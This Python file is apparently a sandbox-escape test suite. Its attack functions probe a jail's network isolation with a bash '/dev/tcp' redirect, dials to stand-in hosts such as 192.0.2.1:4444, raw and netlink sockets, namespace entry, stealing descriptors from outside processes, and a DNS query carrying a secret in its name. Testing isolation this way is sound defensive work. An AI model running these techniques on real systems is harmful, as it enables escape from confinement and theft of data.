"""Acts against the ways out and in; run by `kit.py`, see there."""

import contextlib
import ctypes
import errno
import mmap
import os
import socket
import struct
import sys
import time
from urllib.parse import urlsplit

from kit import GRANTED, WORLD, Absent, Resisted, attack, call, main, own, runs, secret_in
from reach import LOOPBACK, answer, dial, not_in_gvisor, port

MPTCP, SCTP, SOCK_DIAG = 262, 132, 4


@attack()
def sidecar():
    return dial(("127.0.0.1", port()))


@attack()
def sidecar_by_ipv6():
    return dial(("::1", port()), socket.AF_INET6)


@attack()
def sidecar_by_any_address():
    return dial(("0.0.0.0", port()))


@attack()
def shell_redirection():
    return secret_in(
        runs("/bin/bash", "-c", 'exec 3<>"/dev/tcp/127.0.0.1/$1"; read -r x <&3; echo "$x"', "bash", str(port()))
    )


@attack()
def elsewhere():
    return dial(("192.0.2.1", 4444))


@attack()
def elsewhere_on_a_web_port():
    with socket.create_connection(("192.0.2.2", 443), 3) as link:
        link.sendall(b"hello\r\n\r\n")
        return answer(link)


@attack()
def elsewhere_by_ipv6():
    return dial(("2001:db8::1", 4445), socket.AF_INET6)


@attack()
def multipath():
    not_in_gvisor("multipath TCP")
    return dial(("127.0.0.1", port()), protocol=MPTCP)


def fast_open_to(target, send):
    not_in_gvisor("TCP Fast Open")
    with socket.socket() as link:
        send(link, target)  # blocking: the data goes with the connection
        return answer(link)


@attack()
def fast_open():
    return fast_open_to(("127.0.0.1", port()), lambda link, to: link.sendto(b"fast_open", socket.MSG_FASTOPEN, to))


@attack()
def fast_open_by_message():
    act = b"fast_open_by_message"
    return fast_open_to(("127.0.0.1", port()), lambda link, to: link.sendmsg([act], [], socket.MSG_FASTOPEN, to))


@attack()
def fast_open_at_connect():
    def send(link, to):
        link.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
        link.connect(to)
        link.send(b"fast_open_at_connect")

    return fast_open_to(("127.0.0.1", port()), send)


def datagram(family, act):
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        link.settimeout(0.8)
        link.sendto(act, (LOOPBACK[family], WORLD["udp"]))
        try:
            return secret_in(link.recv(200))
        except TimeoutError:
            raise Resisted("sent, and heard nothing") from None


@attack()
def udp():
    return datagram(socket.AF_INET, b"udp")


@attack()
def udp_by_ipv6():
    return datagram(socket.AF_INET6, b"udp_by_ipv6")


@attack()
def sctp():
    try:
        return socket.socket(socket.AF_INET, socket.SOCK_STREAM, SCTP) and "has an SCTP socket"
    except OSError as error:
        if error.errno == errno.EPROTONOSUPPORT:
            raise Absent("this kernel has no SCTP") from None
        raise


@attack()
def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "has a raw socket"


@attack()
def packet():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) and "has a packet socket"


@attack()
def vsock():
    not_in_gvisor("vsock")
    return socket.socket(40, socket.SOCK_STREAM) and "has a socket to the machine below"


@attack()
def kernel_ciphers():
    try:
        return socket.socket(38, socket.SOCK_SEQPACKET) and "has a socket of the kernel's ciphers"
    except OSError as error:
        if error.errno == errno.EAFNOSUPPORT:
            raise Absent("this kernel has no AF_ALG") from None
        raise


@attack()
def other_families():
    made = []
    for family in set(range(1, 46)) - {1, 2, 10, 16, 40}:
        for kind in range(1, 7):
            with contextlib.suppress(OSError):
                made.append((family, kind, socket.socket(family, kind).fileno()))
    if not made:
        raise OSError(errno.EAFNOSUPPORT, "no socket of any other family")
    return made


@attack()
def other_netlink():
    made = []
    for protocol in range(1, 23):
        with contextlib.suppress(OSError):
            made.append((protocol, socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).fileno()))
    if not made:
        raise OSError(errno.EPERM, "no netlink but of routes")
    return made


@attack()
def changed_addresses():
    """RTM_NEWADDR, rtnetlink(7): 10.98.76.54/32 on the interface 1."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        link.bind((0, 0))
        body = struct.pack("=BBBBi", socket.AF_INET, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 98, 76, 54]))
        link.send(struct.pack("=IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
        link.settimeout(3)
        code = -struct.unpack_from("=i", link.recv(4096), 16)[0]
        if code:
            raise OSError(code, os.strerror(code))
        return "has an address of its own"


def run_machine_code(*code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


@attack()
def calls_of_the_32_bit_word():
    """mov eax, 20 (getpid of i386); int 0x80; ret"""
    found = run_machine_code(0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3)
    if found != os.getpid():
        raise OSError(-found, "int 0x80")
    return "made a call by int 0x80"


@attack()
def calls_of_x32():
    try:
        return call(0x40000000 | 39) and "made a call by the numbers of x32"
    except OSError as error:
        if error.errno == errno.ENOSYS:
            raise Absent("this kernel is built without x32") from None
        raise


@attack()
def new_network_namespace():
    call(272, 0x10000000 | 0x40000000)
    return "has a network namespace of its own"


@attack()
def new_namespaces_by_clone():
    child = call(56, 0x10000000 | 17, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return "has a child with a user namespace of its own"


@attack()
def entered_namespace():
    entered = []
    for number in (1, WORLD["outsider"]):
        with contextlib.suppress(OSError):
            held = os.open(f"/proc/{number}/ns/net", os.O_RDONLY)
            entered.append(call(308, held, 0x40000000))
        with contextlib.suppress(OSError):
            entered.append(call(308, os.pidfd_open(number), 0x40000000))
    if not entered:
        raise OSError(errno.EPERM, "no namespace of another process")
    return entered


def given(name):
    """Connect to the process outside and take the descriptor that it hands out; read the victim with it."""
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(3)
        link.connect(name)
        text, descriptors, _, _ = socket.recv_fds(link, 200, 1)
        secret_in(text)
        return secret_in(os.pread(descriptors[0], 200, 0))


@attack()
def unix_by_path():
    return given(WORLD["unix"])


@attack()
def unix_by_a_link():
    link = f"{GRANTED}/socket"
    os.symlink(WORLD["unix"], link)
    return given(link)


@attack()
def unix_made_later():
    own("ready-for-the-late-socket")
    for _ in range(30):
        with contextlib.suppress(FileNotFoundError, ConnectionRefusedError):
            return given(WORLD["late"])
        time.sleep(0.1)
    raise OSError(errno.ENOENT, "no such socket here")


@attack()
def unix_abstract():
    return given("\0" + WORLD["abstract"])


def send_datagram(name, act):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
        link.sendto(act, name)
        return "sent a datagram"


@attack()
def unix_datagram_by_path():
    return send_datagram(WORLD["unix"] + ".d", b"unix_datagram_by_path")


@attack()
def unix_datagram_abstract():
    return send_datagram("\0" + WORLD["abstract"] + ".d", b"unix_datagram_abstract")


def listen(where, number, seconds):
    """Serve at all addresses, and wait for the process outside, which dials."""
    with socket.create_server((where, number)) as server:
        server.settimeout(seconds)
        try:
            peer, _ = server.accept()
        except TimeoutError:
            raise Resisted("nobody came") from None
        with peer:
            peer.settimeout(3)
            found = secret_in(peer.recv(200))
            peer.send(sys._getframe(1).f_code.co_name.encode())
            return found


@attack()
def inbound():
    return listen("0.0.0.0", WORLD["inbound"][0][1], 1.5)


@attack()
def inbound_on_loopback():
    return listen("127.0.0.1", WORLD["inbound"][1][1], 2.5)


def squat(number):
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        one.bind(("127.0.0.1", number))
        one.listen()
        return f"listens on port {number}"


@attack(control=lambda: squat(0))
def proxys_port():
    return squat(urlsplit(os.environ["HTTPS_PROXY"]).port)


def by_proxy(target):
    place = urlsplit(os.environ["HTTPS_PROXY"])
    with socket.create_connection((place.hostname, place.port), 5) as link:
        link.sendall(f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode())
        link.settimeout(5)
        said = link.recv(4096)
        if b" 403 " in said.split(b"\r\n")[0]:
            raise OSError(errno.EACCES, said.split(b"\r\n")[0].decode())
        return said


@attack(control=lambda: by_proxy(f"allowed.test:{WORLD['ports']['http']}"))
def sidecar_by_proxy():
    return secret_in(by_proxy(f"127.0.0.1:{port()}"))


def ask(name):
    """A question to the session's name server, by TCP: RFC 1035."""
    question = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0)
    question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0\0\1\0\1"
    for server in ("127.0.0.1", "192.0.2.53"):  # the jail's own, and whichever is captured
        with contextlib.suppress(OSError), socket.create_connection((server, 53), 5) as link:
            link.sendall(struct.pack("!H", len(question)) + question)
            if answered := link.recv(4096):
                return answered[5] & 15
    raise Resisted("no name server")


def allowed_name():
    if ask("allowed.test") != 0:
        raise Resisted("allowed.test is refused")


@attack(control=allowed_name)
def forbidden_name():
    code = ask("secret-in-a-name.forbidden.test")
    if code == 5:
        raise OSError(errno.EACCES, "REFUSED")
    return f"answered with {code}"


@attack()
def stolen_descriptor():
    not_in_gvisor("pidfd_getfd")
    held = os.pidfd_open(WORLD["outsider"])
    return secret_in(os.pread(call(438, held, WORLD["outsider_fd"], 0), 200, 0))


if __name__ == "__main__":
    main()
